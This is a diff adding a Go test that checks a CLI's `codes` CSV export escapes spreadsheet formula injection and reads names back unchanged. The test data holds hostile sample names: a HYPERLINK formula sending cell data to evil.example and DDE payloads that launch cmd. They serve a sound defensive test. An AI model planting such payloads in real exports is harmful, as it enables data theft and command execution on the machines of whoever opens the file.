@@ -528,3 +528,43 @@ func BenchmarkForgedFactsBundleImport(b *testing.B) {
 	}
 	b.ReportMetric(float64(rss)/1e6, "peak-RSS-MB")
 }
+
+// TestCodesCSVFormulaInjectionEscaped: `codes` writes a name that a
+// spreadsheet would run (=HYPERLINK, +cmd|, @SUM) escaped, and the
+// terminal's reader gets the name back as it was.
+func TestCodesCSVFormulaInjectionEscaped(t *testing.T) {
+	t.Parallel()
+	dir, files := t.TempDir(), t.TempDir()
+	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"}
+	csv := "professional_id,name,profession,centre_id\n"
+	for i, n := range names {
+		csv += fmt.Sprintf("p-%d,\"%s\",nurse,namur\n", i, strings.ReplaceAll(n, `"`, `""`))
+	}
+	for _, args := range [][]string{
+		{"centre", "add", "--data", dir, "--id", "namur", "--name", "Namur"},
+		{"request", "import", "--data", dir, "--campaign", pickup.DefaultCampaignID, writeFile(t, files, "r.csv", csv)},
+	} {
+		if code, out := sub(t, args...); code != 0 {
+			t.Fatalf("%v = %d: %s", args, code, out)
+		}
+	}
+	code, out := sub(t, "codes", "--data", dir, "--centre", "namur")
+	if code != 0 {
+		t.Fatalf("codes: %s", out)
+	}
+	for _, line := range strings.Split(out, "\n")[1:] {
+		f := strings.SplitN(line, ",", 3)
+		if len(f) > 1 && strings.ContainsAny(strings.TrimPrefix(f[1], `"`)[:1], "=+-@") {
+			t.Errorf("codes wrote a formula: %s", line)
+		}
+	}
+	got := map[string]bool{}
+	if err := pickup.ReadPickupCSV(strings.NewReader(out), func(_ int, p pickup.Pickup) error { got[p.Name] = true; return nil }); err != nil {
+		t.Fatal(err)
+	}
+	for _, n := range names {
+		if !got[n] {
+			t.Errorf("name %q not read back as it was (%v)", n, got)
+		}
+	}
+}
